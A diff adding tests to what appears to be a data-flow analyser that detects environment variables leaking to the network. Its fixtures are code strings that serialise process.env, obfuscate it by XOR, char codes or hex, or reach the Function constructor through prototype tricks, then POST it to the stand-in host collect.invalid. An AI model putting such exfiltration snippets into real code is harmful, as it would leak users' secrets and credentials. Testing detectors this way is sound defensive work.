@@ -38,3 +38,43 @@ describe('a text that is not known', () => {
     assert.deepEqual(handle(`res.end(text.replace(/k(\\w+)z/g, (all, part) => part.toUpperCase()));`), []);
   });
 });
+
+describe('a text that is taken apart by hand', () => {
+  const SENT = ['environment>network@collect.invalid'];
+  const sent = (code: string): readonly string[] =>
+    flowsOf(
+      `const t = JSON.stringify(process.env); let o = ''; ${code} fetch('https://collect.invalid', { method: 'POST', body: o });`,
+    );
+
+  for (const code of [
+    `for (let i = 0; i < t.length; i++) o += String.fromCharCode(t.charCodeAt(i) ^ 7);`,
+    `for (let i = 0; i < t.length; i++) o += (t.charCodeAt(i) + 3) + ',';`,
+    `for (const c of t) o += c.codePointAt(0).toString(16);`,
+    `o = new Uint8Array(9); new TextEncoder().encodeInto(t, o);`,
+    `o = JSON.stringify({ toJSON() { return process.env; } });`,
+  ])
+    it(`is still that text: ${code}`, () => {
+      assert.deepEqual(sent(code), SENT);
+    });
+
+  it('is not told by how long it is, or whether something stands in it', () => {
+    assert.deepEqual(sent('o = String(t.length);'), []);
+    assert.deepEqual(sent(`o = t.includes('CI') ? 'ci' : 'desk';`), []);
+  });
+});
+
+describe('the maker of all functions', () => {
+  const RUN = `'return process.env'`;
+  for (const way of [
+    `Object.getPrototypeOf(function () {}).constructor`,
+    `Reflect.getPrototypeOf(() => {}).constructor`,
+    `(() => {}).__proto__.constructor`,
+    `Object.getPrototypeOf(async () => {}).constructor`,
+  ])
+    it(`is reached through ${way}`, () => {
+      const flows = flowsOf(
+        `const made = ${way}(${RUN}); fetch('https://collect.invalid', { body: JSON.stringify(made()) });`,
+      );
+      assert.deepEqual(flows, ['environment>network@collect.invalid']);
+    });
+});
